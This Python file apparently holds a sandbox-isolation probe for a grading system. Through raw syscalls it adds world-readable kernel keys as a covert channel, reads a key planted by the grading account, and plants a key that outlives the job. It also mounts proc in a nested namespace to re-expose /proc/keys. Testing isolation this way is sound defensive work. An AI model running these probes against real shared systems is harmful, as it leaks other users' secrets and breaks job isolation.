def _attack():
    # Kernel keys belong to no namespace. Add a key everyone may read (a channel to a classmate's job, or left for
    # the next job of this uid), link keyrings, find and read a key the grading account planted (by its serial
    # $planted and by its description), and list /proc/keys, also through a proc mounted in a nested namespace.
    import ctypes, os, platform
    add_key, request_key, keyctl = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[platform.machine()]
    libc, got, refused = ctypes.CDLL(None, use_errno=True), [], []
    user, session, user_session = ctypes.c_int(-4), ctypes.c_int(-3), ctypes.c_int(-5)

    def call(what, *args):
        result = libc.syscall(*args)
        (refused if result == -1 else got).append(f"{what}: " + (os.strerror(ctypes.get_errno()) if result == -1 else str(result)))
        return result

    for ring, name in ((user, "user"), (session, "session")):
        key = call(f"add_key to the {name} keyring", add_key, b"user", b"hostile-$me", b"a channel", 9, ring)
        if key > 0:
            call("keyctl setperm", keyctl, 5, key, ctypes.c_uint(0x3F3F3F3F))
    call("keyctl link", keyctl, 8, user_session, user)
    call("keyctl get the user keyring", keyctl, 0, user, 0)
    buf = ctypes.create_string_buffer(4096)
    for desc in (b"hostile-class-planted-key", b"hostile-kernel_keys"):
        serial = call(f"request_key {desc.decode()}", request_key, b"user", desc, None, 0)
        if serial > 0:
            call("keyctl read", keyctl, 11, serial, buf, 4096)
    if $planted > 0:
        if call("keyctl read the planted key", keyctl, 11, $planted, buf, 4096) > 0:
            got.append(buf.raw[:80])
    listed = [line for line in open("/proc/keys") if line.strip()]
    if listed:
        got.append(f"/proc/keys: {listed[:4]}")
    for line in listed:  # a keyring of this uid outside the job (the account's own): a key linked there outlives it
        if " keyring " in line and key > 0:
            call(f"keyctl link into {line.split()[-2]}", keyctl, 8, key, int(line.split()[0], 16))
    nested = _nested_proc_keys(libc)
    (got if nested.startswith("nested /proc/keys: b'") and len(nested) > 23 else refused).append(nested)
    if got:
        return got
    raise PermissionError(f"kernel keys: {'; '.join(refused)}; /proc/keys empty")


def _nested_proc_keys(libc):
    # a user, mount and PID namespace of our own, and a proc mounted there: is /proc/keys whole again?
    import ctypes, os
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            if libc.unshare(0x10000000 | 0x00020000 | 0x20000000) != 0:
                os.write(write, b"unshare: " + os.strerror(ctypes.get_errno()).encode())
            elif os.fork() == 0:
                os.makedirs("/tmp/hostile-proc", exist_ok=True)
                if libc.mount(b"proc", b"/tmp/hostile-proc", b"proc", 0, None) != 0:
                    os.write(write, b"mount proc: " + os.strerror(ctypes.get_errno()).encode())
                else:
                    os.write(write, b"nested /proc/keys: " + repr(open("/tmp/hostile-proc/keys", "rb").read()[:300]).encode())
        finally:
            os._exit(0)
    os.close(write)
    os.waitpid(pid, 0)
    text = os.read(read, 500).decode()
    os.close(read)
    return text or "nested proc: no answer"
